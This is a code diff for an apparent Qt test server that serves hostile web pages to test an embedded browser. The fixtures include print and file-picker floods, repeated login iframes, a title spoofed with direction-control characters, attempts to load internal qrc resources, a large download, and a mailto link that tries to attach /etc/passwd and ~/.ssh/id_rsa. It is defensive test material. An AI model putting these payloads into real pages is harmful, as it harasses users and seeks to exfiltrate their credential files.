@@ -81,6 +81,73 @@ QByteArray schemes() {
                                    "location.href='foo://script';</script>"));
 }
 
+// Fetched last, so a row of the same kind of request ends
+// with one the tests can wait for: GET /hostile/done.asp?what.
+QString thenDone(const char* what) {
+    return QStringLiteral("fetch('/hostile/done.asp?%1');").arg(QLatin1String(what));
+}
+
+QByteArray printFlood() {
+    return html(QStringLiteral("打印"),
+                QStringLiteral("<script>for(let i=0;i<50;i++)window.print();%1</script>")
+                    .arg(thenDone("prints")));
+}
+
+QByteArray passwordFlood() {
+    QString frames;
+    for (int i = 0; i < 20; ++i)
+        frames += QStringLiteral("<iframe src=\"/hostile/login.asp?frame=%1\"></iframe>").arg(i);
+    return html(QStringLiteral("密码"), frames);
+}
+
+QByteArray filePickers() {
+    return html(QStringLiteral("文件"),
+                QStringLiteral("<input type=\"file\" id=\"one\"><input type=\"file\" id=\"many\" "
+                               "multiple><input type=\"file\" id=\"folder\" webkitdirectory>"
+                               "<button id=\"pick\" style=\"width:200px;height:60px\">选择</button>"
+                               "<script>document.getElementById('pick').onclick=()=>{"
+                               "for(const id of ['one','many','folder'])"
+                               "document.getElementById(id).click();%1};</script>")
+                    .arg(thenDone("pickers")));
+}
+
+QByteArray disguisedTitle() {
+    // Direction marks, controls and a title far longer than any window's.
+    QString title = QStringLiteral("\u202E\u8BF7\u91CD\u65B0\u767B\u5F55\u200B\t\n");
+    title += QString(4096, QLatin1Char('x'));
+    return html(title.toHtmlEscaped(), QStringLiteral("<p>标题</p>"));
+}
+
+QByteArray programResources() {
+    return html(
+        QStringLiteral("资源"),
+        QStringLiteral("<img id=\"direct\" src=\"qrc:/orvanta/16.png\">"
+                       "<img id=\"redirected\" src=\"/hostile/to-qrc.asp\">"
+                       "<script>function seen(id){const i=document.getElementById(id);"
+                       "return new Promise(r=>{if(i.complete)r(i.naturalWidth);"
+                       "else{i.onload=()=>r(i.naturalWidth);i.onerror=()=>r(0);}});}</script>"));
+}
+
+QByteArray toProgramResource() {
+    return respond(302, "Found", "text/plain", "moved\n", "Location: qrc:/orvanta/16.png\r\n");
+}
+
+QByteArray mailWithAttachment() {
+    return html(QStringLiteral("邮件"),
+                QStringLiteral("<a id=\"mail\" style=\"display:block;width:300px;height:30px\" "
+                               "href=\"mailto:agent@example.com?subject=Hi&attach=/etc/passwd&"
+                               "body=x&Attachment=~/.ssh/id_rsa&cc=b@example.com\">邮件</a>"));
+}
+
+QByteArray largeDownload(const http::RequestHead& head) {
+    const int mebibytes = qBound(
+        1,
+        QUrlQuery(QString::fromLatin1(head.query())).queryItemValue(QStringLiteral("mib")).toInt(),
+        256);
+    return respond(200, "OK", "application/octet-stream", QByteArray(mebibytes << 20, 'x'),
+                   "Content-Disposition: attachment; filename=\"large.bin\"\r\n");
+}
+
 QByteArray printing() {
     return html(QStringLiteral("打印"), QStringLiteral("<h1 id=\"doc\">打印测试页</h1>"
                                                        "<script>window.print();</script>"));
@@ -154,6 +221,24 @@ std::optional<QByteArray> hostileAnswer(const http::RequestHead& head) {
         return html(QStringLiteral("循环中"), QString());
     if (page == "market/exit.asp")
         return exitWithAlert();
+    if (page == "prints.asp")
+        return printFlood();
+    if (page == "passwords.asp")
+        return passwordFlood();
+    if (page == "pickers.asp")
+        return filePickers();
+    if (page == "title.asp")
+        return disguisedTitle();
+    if (page == "resources.asp")
+        return programResources();
+    if (page == "to-qrc.asp")
+        return toProgramResource();
+    if (page == "mail.asp")
+        return mailWithAttachment();
+    if (page == "large.bin")
+        return largeDownload(head);
+    if (page == "done.asp")
+        return html(QStringLiteral("完成"), QString());
     return std::nullopt;
 }
 
